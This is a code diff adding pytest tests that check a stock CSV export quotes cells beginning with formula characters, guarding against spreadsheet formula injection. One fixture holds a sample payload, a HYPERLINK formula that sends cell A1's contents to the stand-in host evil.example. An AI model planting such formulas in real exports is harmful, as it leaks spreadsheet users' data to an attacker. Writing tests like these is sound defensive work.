@@ -1,9 +1,13 @@
 """stock_import_csv and stock_export_csv: all rows or none, every bad row by line, export re-imports as is."""
 
+import csv
+import io
+
 import pytest
 
 from accounts.tests.factories import SellerFactory
 from core.actors import Actor
+from core.csv import FORMULA_STARTS
 from fulfillment.models import SKU, Stock
 from fulfillment.services import StockImportError, stock_export_csv, stock_import_csv
 from fulfillment.tests.factories import make_sku
@@ -105,3 +109,32 @@ def test_an_export_re_imports_without_changes():
     assert "ACME,MUG," in exported and ",19.99,5" in exported
     assert "BETA,CAP," in exported and ",0.05,0" in exported
     assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_an_export_never_starts_a_cell_with_a_formula_and_still_re_imports(start):
+    """A spreadsheet runs a cell starting with = + - @ as a formula: the export quotes it, the import unquotes it."""
+    acme = SellerFactory(code="ACME")
+    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    SKU.objects.filter(pk=make_sku(seller=acme, code=f"{start}1+2", on_hand=3).pk).update(name=name)
+
+    exported = stock_export_csv()
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    result = stock_import_csv(text=exported, actor=ACTOR)
+
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    assert f"'{start}1+2" in cells
+    sku = SKU.objects.get()
+    assert (sku.code, sku.name) == (f"{start}1+2", name)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
+
+
+@pytest.mark.parametrize("start", ["\t", "\r"])
+def test_an_export_quotes_a_cell_starting_with_a_tab_or_carriage_return(start):
+    """Some spreadsheets skip these before looking for a formula (OWASP); such names only reach SKUs by hand."""
+    acme = SellerFactory(code="ACME")
+    SKU.objects.filter(pk=make_sku(seller=acme, code="MUG").pk).update(name=f"{start}=1+2")
+
+    cells = [cell for row in csv.reader(io.StringIO(stock_export_csv())) for cell in row]
+
+    assert f"'{start}=1+2" in cells
